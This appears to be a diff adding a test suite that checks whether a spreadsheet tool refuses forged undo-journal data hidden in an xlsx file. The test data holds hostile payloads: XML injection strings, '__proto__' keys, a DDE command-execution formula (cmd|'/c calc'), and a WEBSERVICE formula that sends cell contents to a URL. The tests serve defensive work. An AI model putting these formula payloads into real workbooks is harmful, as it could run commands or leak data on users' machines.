@@ -1,0 +1,128 @@
+import { unzipSync, zipSync } from 'fflate';
+import type { RevertReceipt } from '../../../src/hosts/port';
+import { MemoryHost } from '../../../src/hosts/file/memory-host';
+import { checkedFill, checkedRichText } from '../../../src/hosts/file/xlsx/journal/checked-xml';
+import { escapeXml } from '../../../src/hosts/file/xlsx/xml/scan';
+import { applied, edit, TABLE, value } from '../contract/steps';
+import { buildXlsx } from './build-xlsx';
+
+const PART = 'customXml/item1.xml';
+const NUMBER = { body: { kind: 'number', value: '9' } };
+
+interface Forged {
+  readonly host: MemoryHost;
+  readonly before: Record<string, string>;
+}
+
+function texts(bytes: Uint8Array): Record<string, string> {
+  return Object.fromEntries(Object.entries(unzipSync(bytes)).map(([name, content]) => [name, new TextDecoder().decode(content)]));
+}
+
+/** A file with 9 in E4 of 自评表 and a state that somebody else wrote. */
+async function forged(state: unknown): Promise<Forged> {
+  const honest = new MemoryHost(buildXlsx(TABLE), '表.xlsx');
+  await applied(honest, [edit('自评表', 'E4', { content: { type: 'number', number: '9' } })]);
+  const json = typeof state === 'string' ? state : JSON.stringify(state);
+  const files = { ...unzipSync(honest.bytes()), [PART]: new TextEncoder().encode(`<perfscore xmlns="urn:perfscore:workbook:1">${escapeXml(json)}</perfscore>`) };
+  const bytes = zipSync(files);
+  return { host: new MemoryHost(bytes, '表.xlsx'), before: texts(bytes) };
+}
+
+function entry(cells: readonly unknown[], more: object = {}): object {
+  return { next: 2, settings: [['k', '1']], entries: [{ id: 'f1', title: { 'zh-CN': '填充', 'en-US': 'fill' }, purpose: 'fill', cells, parts: [], ...more }] };
+}
+
+function cell(before: unknown, after: unknown = NUMBER, name = 'E4'): object {
+  return { sheet: '自评表', cell: name, before, after };
+}
+
+/** The file without what this product keeps in it. */
+function others(host: MemoryHost): Record<string, string> {
+  const { [PART]: _kept, ...rest } = texts(host.bytes());
+  return rest;
+}
+
+async function reverted(state: unknown): Promise<{ readonly receipt: RevertReceipt; readonly changed: boolean; readonly host: MemoryHost }> {
+  const { host, before } = await forged(state);
+  const receipt = value(await host.revert('f1'));
+  const { [PART]: _kept, ...rest } = before;
+  return { receipt, changed: JSON.stringify(others(host)) !== JSON.stringify(rest), host };
+}
+
+describe('a forged journal in a file', () => {
+  it.each<[string, object]>([
+    ['a part of the package to be written', entry([cell({ body: { kind: 'blank' } }, { body: { kind: 'text', text: 'x' } })], { parts: [{ path: 'xl/evil.xml', crc: null, inverse: null, removed: '<evil/>' }] })],
+    ['splices of a part', entry([cell({ body: { kind: 'blank' } }, { body: { kind: 'text', text: 'x' } })], { parts: [{ path: 'xl/worksheets/sheet1.xml', crc: null, inverse: [] }] })],
+  ])('has no say over parts: %s', async (_name, state) => {
+    const { host, changed } = await reverted(state);
+    expect(texts(host.bytes())['xl/evil.xml']).toBeUndefined();
+    expect(changed).toBe(false);
+  });
+
+  it.each<[string, unknown]>([
+    ['raw XML as rich text', cell({ body: { kind: 'rich', xml: '<t>a</t></is></c><c r="A1"><f>WEBSERVICE("x")</f>' } })],
+    ['an element that is none of a rich text', cell({ body: { kind: 'rich', xml: '<t>a</t><f>1+1</f>' } })],
+    ['raw XML as a formula\'s attributes', cell({ body: { kind: 'formula', formula: '1', attributes: 't="dataTable" ref="A1:E9"' } })],
+    ['an array formula over other cells', cell({ body: { kind: 'formula', formula: '1', attributes: 't="array" ref="A1:E9"' } })],
+    ['raw XML as a fill', cell({ fill: '<fill/></fills><evil/>' }, { fill: '<fill><patternFill patternType="none"/></fill>' })],
+    ['a row beyond the sheet', cell({ body: { kind: 'number', value: '1' } }, { body: { kind: 'blank' } }, 'A1048577')],
+    ['a column beyond the sheet', cell({ body: { kind: 'number', value: '1' } }, { body: { kind: 'blank' } }, 'XFE1')],
+    ['a part without the state it was left in', cell({ body: { kind: 'number', value: '1' } }, { numberFormat: 'General' })],
+    ['a mark without a content', cell({ numberFormat: '0', quotePrefix: true }, { numberFormat: 'General' })],
+    ['a number that is none', cell({ body: { kind: 'number', value: '1</v><f>1</f>' } })],
+    ['a kind of content that does not exist', cell({ body: { kind: '__proto__' } })],
+    ['a text longer than a cell', cell({ body: { kind: 'text', text: 'x'.repeat(40_000) } })],
+    ['no object', null],
+  ])('gets nothing into the file with %s, and the receipt does not say "restored"', async (_name, record) => {
+    const { receipt, changed } = await reverted(entry([record]));
+    expect(receipt.restored).toEqual([]);
+    expect(receipt.refused.map(({ reason }) => reason['zh-CN'])).toEqual([expect.stringContaining('没有恢复')]);
+    expect(changed).toBe(false);
+  });
+
+  it.each(['WEBSERVICE("https://a/?"&A1)', "cmd|'/c calc'!A0", '[1]Sheet1!A1', 'HYPERLINK("https://a","b")'])('does not put back a formula that reaches outside (%s), but shows it', async (formula) => {
+    const { receipt, changed, host } = await reverted(entry([cell({ body: { kind: 'formula', formula } })]));
+    expect(receipt.restored).toEqual([]);
+    expect(receipt.refused[0]?.reason['zh-CN']).toContain(`=${formula}`);
+    expect(changed).toBe(false);
+    expect(value(await host.journal())).toHaveLength(1);
+  });
+
+  it('refuses the cells that are forged and takes the others back', async () => {
+    const { receipt } = await reverted(entry([cell({ body: { kind: 'blank' } }), cell({ body: { kind: 'rich', xml: '<evil/>' } }, { body: { kind: 'blank' } }, 'G9'), cell({ body: { kind: 'blank' } }, NUMBER, 'e4')]));
+    expect(receipt.restored).toEqual([{ sheet: '自评表', cell: 'E4' }]);
+    expect(receipt.refused.map(({ cell: name }) => name)).toEqual(['G9', 'e4']);
+  });
+
+  it.each<[string, unknown]>([
+    ['an id of no command', { entries: [{ id: '__proto__', title: { 'zh-CN': '', 'en-US': '' }, purpose: 'fill', cells: [cell({})] }] }],
+    ['no title', { entries: [{ id: 'f1', purpose: 'fill', cells: [1] }] }],
+    ['an unknown purpose', { entries: [{ id: 'f1', title: { 'zh-CN': '', 'en-US': '' }, purpose: 'toString', cells: [1] }] }],
+    ['text that is no JSON', '{'],
+    ['another kind of value', '[]'],
+  ])('is set aside with a word where it holds %s, and new commands are recorded', async (_name, state) => {
+    const { host } = await forged(state);
+    expect(value(await host.journal())).toEqual([]);
+    expect(host.setAside().map((said) => said['zh-CN'])).toEqual([expect.stringContaining('已搁置')]);
+    const id = await applied(host, [edit('自评表', 'E4', { fill: '#FFC7CE' })]);
+    expect(value(await host.journal()).map((one) => one.id)).toEqual([id]);
+    value(await host.revert(id));
+  });
+
+  it('never gives a new command the id of one that is there', async () => {
+    const { host } = await forged({ ...entry([cell({ body: { kind: 'blank' } })]), next: 1 });
+    expect(await applied(host, [edit('自评表', 'E5', { fill: '#FFC7CE' })])).toBe('f2');
+  });
+});
+
+describe('XML out of a record', () => {
+  it('is written anew where it is a fill or a rich text', () => {
+    expect(checkedFill('<fill>\n<patternFill patternType="solid"><fgColor theme="4" tint="0.59"/><bgColor indexed="64"/></patternFill></fill>')).toBe('<fill><patternFill patternType="solid"><fgColor theme="4" tint="0.59"/><bgColor indexed="64"/></patternFill></fill>');
+    expect(checkedFill('<fill><gradientFill degree="90"><stop position="0"><color rgb="FF00FF00"/></stop></gradientFill></fill>')).not.toBeNull();
+    expect(checkedRichText('<r><rPr><b/><sz val="11"/><rFont val="宋体"/></rPr><t xml:space="preserve"> 粗 &amp;</t></r><rPh sb="0" eb="1"><t>cu</t></rPh><phoneticPr fontId="1"/>')).toContain('<rFont val="宋体"/>');
+  });
+
+  it.each(['<fill a="1"/>', '<fill><patternFill patternType="solid" patternType="solid"/></fill>', '<fill>x</fill>', '<fill/><fill/>', '<fill', '<x:fill/>', '<fill><!-- a --></fill>', '<fill><patternFill><fgColor rgb="javascript"/></patternFill></fill>', '<constructor/>', ''])('is nothing where it is %s', (xml) => expect(checkedFill(xml)).toBeNull());
+
+  it.each(['<t>a<b/></t>', '<t a="1">a</t>', '<f>1</f>', '</is><is>', '<r><t><![CDATA[<f>]]></t></r>', '<t>a</t>b'])('is no rich text where it is %s', (xml) => expect(checkedRichText(xml)).toBeNull());
+});
